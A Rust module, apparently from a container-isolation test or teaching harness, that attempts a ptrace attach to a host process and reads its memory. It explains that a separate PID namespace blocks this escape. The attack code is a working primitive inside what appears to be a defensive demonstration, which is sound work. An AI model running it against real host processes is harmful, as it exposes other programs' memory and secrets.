//! Tracing a host process.
//!
//! ptrace(2) gives a debugger everything that its target has: memory, registers, open files, and it can make
//! the target run the debugger's code. The usual way out of a container with the host's PID namespace and
//! CAP_SYS_PTRACE is to do so with a process of the host's root.
//!
//! Chapter 2 stops it: no number, no target. An ordinary user's container never could: its root has all
//! rights in its own user namespace, and the victim lives in the one above.

use nix::sys::ptrace;
use nix::unistd::Pid;

use crate::arena::{self, Arena};
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};

pub const ATTACK: Attack = Attack {
    name: "ptrace",
    title: "a debugger's hold on a host process",
    won: "read the memory of a host process as its debugger",
    harmless: "",
    end: End::Chapter(2),
    because: "in a PID namespace of its own the host's processes have no number",
    prepare: arena::nothing,
    attack,
    judge: Arena::brought_back,
};

fn attack(me: &Inside) -> Result<String, Stopped> {
    let victim = Pid::from_raw(me.number("pid") as i32);
    ptrace::attach(victim).at("ptrace(PTRACE_ATTACH, the victim)")?;
    nix::sys::wait::waitpid(victim, None).at("waitpid(the victim)")?;
    let mut word = Vec::new();
    for offset in [0, 8] {
        let place = (me.number("address") + offset) as ptrace::AddressType;
        let bytes = ptrace::read(victim, place).at("ptrace(PTRACE_PEEKDATA)")?;
        word.extend_from_slice(&bytes.to_ne_bytes());
    }
    ptrace::detach(victim, None).at("ptrace(PTRACE_DETACH)")?;
    Ok(String::from_utf8_lossy(&word).into_owned())
}
